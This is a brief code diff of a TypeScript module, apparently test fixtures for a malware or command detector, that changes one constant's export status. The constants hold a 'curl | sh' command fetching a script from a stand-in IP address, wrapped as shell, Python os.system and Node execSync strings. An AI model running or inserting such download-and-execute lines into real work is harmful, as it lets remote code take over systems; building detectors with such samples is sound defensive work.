@@ -12,7 +12,7 @@ export interface Hidden {
   readonly verdict?: "unknown" | "malicious";
 }
 
-export const PIPE = "curl -s http://203.0.113.9/x | sh";
+const PIPE = "curl -s http://203.0.113.9/x | sh";
 export const SHELL = `${PIPE}\n`;
 const PYTHON = `import os\nos.system("${PIPE}")\n`;
 const SCRIPT = `require("child_process").execSync("${PIPE}");\n`;
